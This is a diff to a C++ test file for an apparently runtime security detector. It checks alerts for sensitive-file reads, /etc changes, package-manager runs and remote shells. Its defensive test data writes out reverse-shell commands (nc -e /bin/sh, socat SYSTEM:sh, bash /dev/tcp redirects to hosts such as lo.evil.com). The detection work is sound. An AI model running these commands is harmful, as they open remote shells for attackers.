@@ -4,6 +4,7 @@
 #include <gmock/gmock.h>
 
 #include <cstdio>
+#include <cstring>
 #include <ctime>
 
 #include "tests/rule/acts.h"
@@ -80,9 +81,15 @@ TEST_F(Shipped, SensitiveFiles) {
   for (const char* path : {"/etc/passwd", "/root/.ssh/id_rsa.pub", "/srv/shadow"}) {
     EXPECT_THAT(Alerts(Act::Open(path)->event), IsEmpty()) << path;
   }
-  auto sshd = Act::Open("/etc/shadow");
-  sshd->process.name = "sshd";
-  EXPECT_THAT(Alerts(sshd->event), IsEmpty());
+  const auto by = [&](const char* program, const char* path) {
+    auto act = Act::Open(path);
+    act->process.name = program;
+    return Alerts(act->event);
+  };
+  EXPECT_THAT(by("sshd", "/etc/shadow"), IsEmpty());
+  EXPECT_THAT(by("ssh", "/root/.ssh/id_rsa"), IsEmpty());
+  EXPECT_THAT(by("ssh", "/etc/shadow"), ElementsAre("Sensitive file read"));
+  EXPECT_THAT(by("sshd", "/root/.ssh/id_rsa"), ElementsAre("Sensitive file read"));
 }
 
 TEST_F(Shipped, SystemFiles) {
@@ -92,6 +99,10 @@ TEST_F(Shipped, SystemFiles) {
               ElementsAre("System file changed"));
   EXPECT_THAT(Alerts(Act::Open("/etc/hosts", O_WRONLY)->event), IsEmpty());
   EXPECT_THAT(Alerts(Act::Open("/etcx/hosts", O_WRONLY)->event), IsEmpty());
+  EXPECT_THAT(Alerts(Act::Open("/etc/nginx/conf.d/sedA1b2C3", O_RDWR | O_CREAT, true)->event),
+              IsEmpty());
+  EXPECT_THAT(Alerts(Act::Open("/etc/nginx-evil", O_WRONLY)->event),
+              ElementsAre("System file changed"));
   EXPECT_THAT(Alerts(Act::Open("/etc/cron.d/x")->event), IsEmpty());
 }
 
@@ -104,14 +115,38 @@ TEST_F(Shipped, Programs) {
               ElementsAre("Program not in the image"));
   EXPECT_THAT(Alerts(Exec("/usr/bin/apt-get", "apt-get update")->event),
               ElementsAre("Package manager run"));
-  EXPECT_THAT(Alerts(Exec("/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 1")->event),
-              ElementsAre("Remote shell tool run"));
-  EXPECT_THAT(Alerts(Exec("/usr/bin/nc", "nc -z localhost 80")->event), IsEmpty());
+  EXPECT_THAT(Alerts(Exec("/usr/bin/npm", "npm ci --omit=dev")->event),
+              ElementsAre("Package manager run"));
+  for (const char* cmdline : {"npm start", "npm run build", "pip --version"}) {
+    const std::string name(cmdline, std::strcspn(cmdline, " "));
+    EXPECT_THAT(Alerts(Exec("/usr/bin/" + name, cmdline)->event), IsEmpty()) << cmdline;
+  }
   EXPECT_THAT(Alerts(Exec("/usr/bin/socat", "socat TCP:x:1 EXEC:/bin/sh")->event),
               ElementsAre("Remote shell tool run"));
+  EXPECT_THAT(Alerts(Exec("/usr/bin/socat", "socat TCP-LISTEN:1 TCP:x:2")->event), IsEmpty());
   EXPECT_THAT(Alerts(Exec("/usr/bin/nsenter", "nsenter -t 1 -m")->event),
               ElementsAre("Namespace tool run"));
   EXPECT_THAT(Alerts(Exec("/usr/sbin/nginx", "nginx -g x")->event), IsEmpty());
+}
+
+TEST_F(Shipped, RemoteShells) {
+  const auto run = [&](const std::string& cmdline) {
+    const std::string name = cmdline.substr(0, cmdline.find(' '));
+    return Alerts(Exec("/bin/" + name, cmdline)->event);
+  };
+  for (const char* cmdline :
+       {"nc -e /bin/sh 10.0.0.1 1", "nc 10.0.0.1 1 -e/bin/sh", "nc -lve sh", "busybox nc x 1 -e sh",
+        "ncat --sh-exec=id x 1", "socat TCP:x:1 SYSTEM:sh", "bash -c sh >/dev/tcp/10.0.0.1/1",
+        "bash -c cat </dev/udp/$HOST/1", "bash -c x </dev/tcp/127.0.0.1/1; y >/dev/tcp/1.2.3.4/1",
+        "bash -c x >/dev/tcp/localhost.evil.com/1", "bash -c x >/dev/tcp/127.evil.com/1",
+        "bash -c x >/dev/tcp/12.0.0.1/1", "bash -c x >/dev/tcp/lo.evil.com/1"}) {
+    EXPECT_THAT(run(cmdline), ElementsAre("Remote shell tool run")) << cmdline;
+  }
+  for (const char* cmdline : {"nc -z localhost 80", "nc -w 1 echo 7", "busybox ls -e",
+                              "bash -c exec 3<>/dev/tcp/127.0.0.1/9000",
+                              "bash -c </dev/tcp/localhost/8080", "cat /dev/null"}) {
+    EXPECT_THAT(run(cmdline), IsEmpty()) << cmdline;
+  }
 }
 
 TEST_F(Shipped, Network) {
